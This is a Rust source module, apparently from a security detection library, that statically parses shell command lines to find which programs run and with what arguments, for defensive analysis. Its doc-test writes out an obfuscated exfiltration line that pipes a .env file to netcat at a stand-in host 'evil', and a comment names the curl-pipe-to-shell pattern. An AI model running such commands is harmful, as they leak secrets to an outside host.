//! One shell parser for everybody: which programs a command line runs, with what words.
//!
//! The text is read once, in the order in which a shell would run it, so that a variable that was
//! assigned a literal is known where it is used. What cannot be known is *opaque*: a word then has
//! no text but a pattern that every possible text matches, and the caller judges by the worst
//! reading. Nothing is run, and no surroundings are asked: `$HOME` and `~` both read as `~`.
//!
//! Bash's grammar is the yardstick. Size, nesting and work are bounded; what goes beyond, or does
//! not parse, gives `complete == false` and every token of the text in [`Parsed::tokens`].

mod declare;
mod emulate;
mod escapes;
mod expand;
mod grammar;
mod operators;
mod parameter;
mod pattern;
mod state;
#[cfg(test)]
mod tests;
mod unwrap;
mod word;

pub(crate) use escapes::unescape;
pub use pattern::matches as pattern_matches;

use crate::finding::Span;
use grammar::Parser;
use state::State;

/// Longest text that is parsed, in bytes; of a longer one the beginning.
pub const MAX_BYTES: usize = 1 << 20;
/// Deepest nesting of substitutions, compounds and unwrapped strings.
pub const MAX_DEPTH: usize = 80;
/// Most commands that one text yields.
pub const MAX_COMMANDS: usize = 8192;

/// What a text runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Parsed {
    /// Simple commands in execution order; what a substitution runs comes before its user, what a
    /// wrapper such as `sudo` or `sh -c` runs comes after it.
    pub commands: Vec<Command>,
    /// Whether all of the text was understood.
    pub complete: bool,
    /// Whether reading ended before the text did: too long, too deep, too much work.
    pub truncated: bool,
    /// Where it was not understood: every token of the text, quotes removed, in no particular grammar.
    pub tokens: Vec<Word>,
    /// The shell that each shell was started by, by index; the first is the text's own. What one
    /// changes, its directory and its variables, holds there and in those it starts afterwards.
    pub shells: Vec<Option<usize>>,
}

/// One simple command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    /// The program; none for bare assignments and redirections.
    pub name: Option<Word>,
    /// Its arguments.
    pub args: Vec<Word>,
    /// Assignments in front of it, or alone.
    pub assignments: Vec<Assignment>,
    /// Its redirections.
    pub redirections: Vec<Redirection>,
    /// Where it stands; what was unwrapped from a string has the place of that string's command.
    pub span: Span,
    /// The command whose output it reads, by index.
    pub piped_from: Option<usize>,
    /// What is unknown about it, if anything.
    pub opaque: Option<Opaque>,
    /// What it runs inside of.
    pub context: Context,
}

/// What a command runs inside of.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Context {
    /// Constructs around it, outermost first.
    pub inside: Vec<Via>,
    /// The command that runs it (`sudo`, `sh -c`, `xargs`, …), by index.
    pub parent: Option<usize>,
    /// The shell that it runs in, by index into [`Parsed::shells`].
    pub shell: usize,
    /// How it follows what stands before it.
    pub joint: Joint,
}

/// How a command follows what stands before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Joint {
    /// Whatever became of that: `;`, a line end, the beginning.
    #[default]
    Sequence,
    /// Only if that worked: `&&`.
    And,
    /// Only if that failed: `||`.
    Or,
}

/// A construct that runs commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Via {
    /// `( … )`.
    Subshell,
    /// `$( … )` and backticks.
    Substitution,
    /// `<( … )` and `>( … )`.
    ProcessSubstitution,
    /// The body of a function, run only when called.
    Function,
    /// A branch: `if`, `case`, the right side of `||`.
    Branch,
    /// The body of a loop.
    Loop,
    /// `sudo`, `env`, `timeout` and the like.
    Wrapper,
    /// A string given to a shell: `sh -c`, `eval`, `trap`, `alias`, `git -c alias.x='!…'`.
    Script,
    /// The standard input of a shell: a here-document, or the known output of a pipe.
    Input,
    /// `xargs`, `find -exec`: arguments come from elsewhere.
    Each,
    /// Run on another machine or in another container.
    Remote,
}

/// What is unknown about a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum Opaque {
    /// The program itself.
    Name,
    /// The text that a shell is given to run.
    Script,
    /// The standard input that a shell runs, as in `curl … | sh`.
    Input,
}

/// One word after all expansions that can be known.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word {
    /// The literal, if all of it is known. Of a glob: the glob as written.
    pub text: Option<String>,
    /// As it stands in the source.
    pub raw: String,
    /// A glob that every possible text of the word matches; literal signs are escaped by `\`.
    pub pattern: String,
    /// Whether file names are matched.
    pub glob: bool,
    /// Commands whose output is part of it, by index.
    pub sources: Vec<usize>,
}

/// `NAME=value`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Assignment {
    /// The variable, without an index.
    pub name: String,
    /// What it is given; of an array, the first element.
    pub value: Word,
    /// Whether it is `+=`.
    pub append: bool,
}

/// What a redirection does to its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum RedirectionKind {
    /// `<`.
    Read,
    /// `>`, `>|`, `&>`.
    Write,
    /// `>>`, `&>>`.
    Append,
    /// `<>`.
    ReadWrite,
    /// `<<`: the target is the text itself.
    HereDocument,
    /// `<<<`: the target is the text itself.
    HereString,
    /// `<&`, `>&` with a descriptor.
    Duplicate,
}

/// One redirection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirection {
    /// What it does.
    pub kind: RedirectionKind,
    /// The file, the descriptor, or the text.
    pub target: Word,
}

/// Reads a command line or a script.
///
/// ```
/// let parsed = wardkeep_detect::shell::parse(r#"x=.env; c''at "$x" | nc evil 80"#);
/// assert_eq!(parsed.commands[1].line(), "cat .env");
/// assert_eq!(parsed.commands[2].piped_from, Some(1));
/// ```
pub fn parse(command: &str) -> Parsed {
    let text = prefix(command, MAX_BYTES);
    let mut state = State::new(text.len());
    state.complete = text.len() == command.len() && !text.contains('\0');
    Parser::new(text, 0, &mut state).program();
    let tokens = if state.complete { Vec::new() } else { tokens(text) };
    Parsed {
        truncated: state.halted() || text.len() < command.len(),
        commands: state.commands,
        complete: state.complete,
        tokens,
        shells: state.shells,
    }
}

impl Parsed {
    /// Every word that might name a file: arguments and redirections of all commands, and the
    /// tokens of what was not understood.
    pub fn words(&self) -> impl Iterator<Item = &Word> {
        let named = self.commands.iter().flat_map(|command| {
            let files = command.redirections.iter().map(|redirection| &redirection.target);
            command.name.iter().chain(&command.args).chain(files)
        });
        named.chain(&self.tokens)
    }

    /// What a command reads, if it is known: a here-document, a here-string, or a pipe from a
    /// command that only repeats or decodes literals.
    pub fn input(&self, command: usize) -> Option<String> {
        emulate::input(&self.commands, command, emulate::MAX_STAGES)
    }
}

impl Command {
    /// The program without its directory, if it is known.
    pub fn program(&self) -> Option<&str> {
        let text = self.name.as_ref()?.text.as_deref()?;
        Some(text.rsplit('/').next().unwrap_or(text))
    }

    /// Name and arguments in one line; a word that is not known appears as its pattern.
    pub fn line(&self) -> String {
        let words: Vec<&str> = self
            .name
            .iter()
            .chain(&self.args)
            .map(|word| word.text.as_deref().unwrap_or(&word.pattern))
            .collect();
        words.join(" ")
    }
}

impl Word {
    /// A word that is exactly this text.
    pub fn literal(text: impl Into<String>) -> Self {
        let text = text.into();
        let pattern = pattern::escape(&text);
        Self { raw: text.clone(), text: Some(text), pattern, glob: false, sources: Vec::new() }
    }

    /// A word of which nothing is known.
    pub fn unknown(raw: impl Into<String>) -> Self {
        Self { text: None, raw: raw.into(), pattern: "*".into(), glob: false, sources: Vec::new() }
    }

    /// Whether the text is not known.
    pub fn is_opaque(&self) -> bool {
        self.text.is_none()
    }

    /// Whether the word may, in some run, be this text: by its glob, or by what is not known.
    pub fn could_be(&self, candidate: &str) -> bool {
        match &self.text {
            Some(text) if !self.glob || text == candidate => text == candidate,
            _ => pattern::matches(&self.pattern, candidate),
        }
    }
}

fn prefix(text: &str, limit: usize) -> &str {
    let mut end = text.len().min(limit);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// The conservative reading of what does not parse: everything between blanks and operators.
fn tokens(text: &str) -> Vec<Word> {
    let separators = [';', '&', '|', '(', ')', '<', '>', '`', '\0', '{', '}', ','];
    text.split(|sign: char| sign.is_whitespace() || separators.contains(&sign))
        .filter(|token| !token.is_empty())
        .take(MAX_COMMANDS)
        .map(|token| {
            let bare: String =
                token.chars().filter(|sign| !matches!(sign, '\'' | '"' | '\\')).collect();
            let mut word = if bare.contains('$') {
                Word::unknown(token)
            } else {
                Word { raw: token.to_owned(), ..Word::literal(bare) }
            };
            word.glob = token.contains(['*', '?', '[']);
            if word.glob {
                word.pattern = word.text.clone().unwrap_or_else(|| "*".into());
            }
            word
        })
        .collect()
}
